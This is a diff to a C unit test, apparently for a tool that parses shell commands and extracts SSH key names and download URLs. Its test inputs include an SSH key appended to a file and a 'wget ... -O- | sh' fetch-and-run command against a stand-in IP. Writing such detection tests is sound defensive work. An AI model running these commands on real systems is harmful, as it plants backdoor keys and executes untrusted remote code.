@@ -66,6 +66,7 @@ test_lines(void **state)
 		{ "sh -c \"echo ssh-ed25519 " KEY " >> k\"", KEY_NAME },
 		{ "grep -v '" KEY "' a", KEY_NAME },
 		{ "echo AAAAC3NzaC1lZDI1NTE5AAAAI", "" },
+		{ "grep -v 'AAAAB3NzaC1yc2EAAAA ssh-ed25519 " KEY "'", KEY_NAME },
 		/* fetching */
 		{ "wget http://198.51.100.9/x.sh", "url 198.51.100.9/x.sh" },
 		{ "wget 198.51.100.9/x.sh -O- | sh", "url 198.51.100.9/x.sh" },
